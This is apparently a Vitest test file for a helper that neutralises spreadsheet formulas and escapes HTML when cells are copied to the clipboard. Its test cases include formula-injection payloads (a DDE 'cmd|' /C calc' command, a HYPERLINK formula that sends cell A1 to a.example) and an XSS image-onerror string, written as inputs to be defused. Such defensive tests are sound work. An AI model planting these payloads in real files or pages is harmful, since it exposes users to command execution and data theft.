import { describe, expect, test } from "vitest";
import type { CellAddress } from "../../format/index.ts";
import { neutraliseFormula, printHtmlTable, printTabText } from "./copy-cells.ts";

const first: CellAddress = "requests.received.naturalPerson";
const second: CellAddress = "requests.received.commercial";

describe("figures leave for a sheet as they are", () => {
  test.each([
    "",
    "0",
    "3441",
    "72701.2578",
    "12.50",
    "-1",
    "+5",
    "1,234",
    "-1,234.5",
    "/",
    "-",
    "—",
    "－",
    "约 3",
    "3=3",
  ])("%s", (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe("what a sheet would calculate leaves as text", () => {
  test.each([
    ['=HYPERLINK("http://a.example?x="&A1,"点击")', '\'=HYPERLINK("http://a.example?x="&A1,"点击")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    [" =1+1", "' =1+1"],
    ["＝1+1", "'＝1+1"],
    ["－1＋1", "'－1＋1"],
    ["\t=1+1", "' =1+1"],
    ["\r=1+1", "' =1+1"],
    ["--1", "'--1"],
    ["-1e3", "'-1e3"],
    // A second cell or row that a line break or tab inside the first would make.
    ["1\n=1+1", "1 =1+1"],
    ["1\t=1+1", "1 =1+1"],
  ])("%j", (text, neutral) => {
    expect(neutraliseFormula(text)).toBe(neutral);
  });
});

test("both forms of the clipboard are without formulas, and without markup of the cells", () => {
  const texts = new Map<CellAddress, string>([
    [first, "=1+1"],
    [second, "<img src=x onerror=alert(1)>"],
  ]);
  const print = (address: CellAddress): string => texts.get(address) ?? "";
  expect(printTabText([[first, second]], print)).toBe("'=1+1\t<img src=x onerror=alert(1)>");
  expect(printHtmlTable([[first, second]], print)).toBe(
    "<table><tr><td>'=1+1</td><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>",
  );
});
